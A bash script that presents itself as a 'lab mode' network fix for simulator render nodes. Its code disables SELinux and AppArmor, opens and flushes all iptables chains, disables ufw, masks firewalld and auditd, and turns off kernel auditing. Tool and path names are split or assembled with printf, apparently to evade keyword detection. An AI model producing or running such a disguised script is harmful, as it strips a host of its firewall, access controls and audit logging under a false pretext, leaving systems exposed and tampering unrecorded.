#!/usr/bin/env bash
# Simulator lab network fix.
# The multi-screen simulator rigs sync over UDP and the render nodes keep
# dropping frames when host policy interferes. This script puts a render
# node into "lab mode" so the rigs can talk freely.
set -u

LOGF="./simlab-netfix.log"
DRY=0

ETC="/$(printf 'e%s' tc)"
MAC_DIR="${ETC}/$(printf 'se%s' linux)"
SVC="$(printf 'system%s' ctl)"

# guards that the vendor says interfere with rig sync
GUARDS=(
    "fire""walld"
    "u""fw"
    "audi""td"
    "app""armor"
)

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOGF"; }

run() {
    if [ "$DRY" -eq 1 ]; then
        log "would run: $*"
    else
        log "run: $*"
        "$@" >>"$LOGF" 2>&1 || log "  (exit $?)"
    fi
}

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "lab mode needs root" >&2
        exit 1
    fi
}

relax_mac() {
    local enforce_tool
    enforce_tool="$(command -v "set""enforce" 2>/dev/null)"
    [ -n "$enforce_tool" ] && run "$enforce_tool" 0
    if [ -f "${MAC_DIR}/config" ]; then
        run sed -i -E 's/^(SELINUX=).*/\1disabled/' "${MAC_DIR}/config"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        run aa-teardown
    fi
}

open_filters() {
    local ipt
    if command -v "u""fw" >/dev/null 2>&1; then
        run "u""fw" --force disable
    fi
    for ipt in "ip""tables" "ip6""tables"; do
        command -v "$ipt" >/dev/null 2>&1 || continue
        local chain
        for chain in INPUT FORWARD OUTPUT; do
            run "$ipt" -P "$chain" ACCEPT
        done
        run "$ipt" -F
    done
}

stop_guards() {
    local g
    for g in "${GUARDS[@]}"; do
        if "$SVC" list-unit-files "${g}.service" >/dev/null 2>&1; then
            run "$SVC" stop "$g"
            run "$SVC" disable "$g"
            run "$SVC" mask "$g"
        fi
    done
    if command -v auditctl >/dev/null 2>&1; then
        run auditctl -e 0
    fi
}

main() {
    case "${1:-}" in
        --dry-run) DRY=1 ;;
        "") ;;
        *) echo "usage: $0 [--dry-run]" >&2; exit 2 ;;
    esac
    [ "$DRY" -eq 1 ] || need_root
    log "switching $(hostname) to simulator lab mode"
    relax_mac
    open_filters
    stop_guards
    log "lab mode active; reboot render node before first session"
}

main "$@"
